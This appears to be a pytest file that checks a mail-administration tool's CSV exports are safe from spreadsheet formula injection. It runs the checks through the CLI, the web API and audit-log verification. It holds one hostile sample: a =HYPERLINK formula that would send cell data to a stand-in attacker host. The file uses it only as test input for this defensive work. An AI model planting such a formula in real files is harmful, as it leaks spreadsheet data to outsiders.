"""Hole 9: a display name such as '=HYPERLINK(...)' never lands as a live formula in a CSV export."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from mailwarden.audit import VerifyingKey, read_records, verify_chain
from mailwarden.csv_cells import neutralise, restore
from mailwarden.emulator.state import TenantData, TenantState
from mailwarden.settings import load_settings
from mailwarden.testing import RunningEmulator
from mailwarden.workspace import Workspace
from tests.api.served import ServedApp, served_app
from tests.cli.conftest import Cli

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    return [cell for cell in _cells(text) if cell.startswith(_FORMULA_START)]


def _shown_as_text(text: str) -> bool:
    """Whether the hostile name is in the CSV as a quoted (text) cell."""
    return any(cell.startswith("'" + HOSTILE) for cell in _cells(text))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1 555 0100", "'+1 555 0100"),  # a phone number is quoted too, as OWASP accepts
        ("-5", "'-5"),  # and so is a negative number
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),  # one more quote, so reading back is exact
        ("Chris Lee", "Chris Lee"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_are_written_as_text(cell: str, written: str) -> None:
    """A cell starting with = + - @, tab or CR gets a quote in front; reading back gives the original."""
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_cli_audit_export_has_no_live_formula_and_still_verifies(tmp_path: Path) -> None:
    """An audit record naming '=HYPERLINK(...)' exports as text, and the export reads back and verifies."""
    cli = Cli(tmp_path / "home")
    workspace = Workspace.open(load_settings({"MAILWARDEN_HOME": str(cli.home)}))
    try:
        audit = workspace.audit
        audit.append(tenant="demo", event="policy.set", actor="@evil", target=HOSTILE, before=-5, after="+1")
        checkpoints = audit.checkpoints()
        key = VerifyingKey.from_pem(audit.public_key_pem())
    finally:
        workspace.close()
    code, out, err = cli("audit", "export", "--format", "csv")
    assert code == 0, err
    assert _live_formulas(out) == []
    assert _shown_as_text(out)
    records = list(read_records("csv", io.StringIO(out)))
    assert (records[-1].target, records[-1].actor, records[-1].before) == (HOSTILE, "@evil", -5)
    assert verify_chain(records, checkpoints, key).ok


def test_cli_delegation_report_has_no_live_formula(tmp_path: Path) -> None:
    """A trustee renamed =HYPERLINK(...) in the tenant shows as text in `report delegations --format csv`."""
    cli = Cli(tmp_path / "home")
    assert cli("view", "shared-mailboxes")[0] == 0  # the demo tenant's state now exists
    state_file = cli.home / "emulator" / "tenant.json"
    data = TenantData.model_validate_json(state_file.read_bytes())
    chris = next(r for r in data.recipients.values() if r.primary_smtp == "chris.lee@acme.com")
    chris.display_name = HOSTILE
    state_file.write_text(data.model_dump_json())
    assert cli("tenant", "discover")[0] == 0
    code, out, err = cli("report", "delegations", "--mailbox", "support@acme.com", "--format", "csv")
    assert code == 0, err
    assert _shown_as_text(out)
    assert _live_formulas(out) == []


@pytest.fixture
def hostile_web(emulator: RunningEmulator, tenant: TenantState, tmp_path: Path) -> Iterator[ServedApp]:
    """The web app over a tenant where Chris Lee's display name is a formula."""
    with tenant.transaction():
        chris = next(r for r in tenant.data.recipients.values() if r.primary_smtp == "chris.lee@acme.com")
        chris.display_name = HOSTILE
        tenant.reindex()
        tenant.mark_dirty()
    with served_app(emulator, tmp_path / "home") as served:
        yield served


def test_api_csv_downloads_have_no_live_formula(hostile_web: ServedApp) -> None:
    """The report and audit CSV downloads of the API write the hostile name as text."""
    grace = hostile_web.sign_in("grace.hopper@acme.com")
    report = grace.get("/api/v1/reports/delegations", params={"mailbox": "support@acme.com", "format": "csv"})
    assert report.status_code == 200, report.text
    assert _shown_as_text(report.text)
    assert _live_formulas(report.text) == []
    hostile_web.workspace.audit.append(
        tenant="demo", event="policy.set", actor="grace.hopper@acme.com", target=HOSTILE
    )
    export = grace.get("/api/v1/audit/export", params={"format": "csv"})
    assert export.status_code == 200, export.text
    assert _shown_as_text(export.text)
    assert _live_formulas(export.text) == []
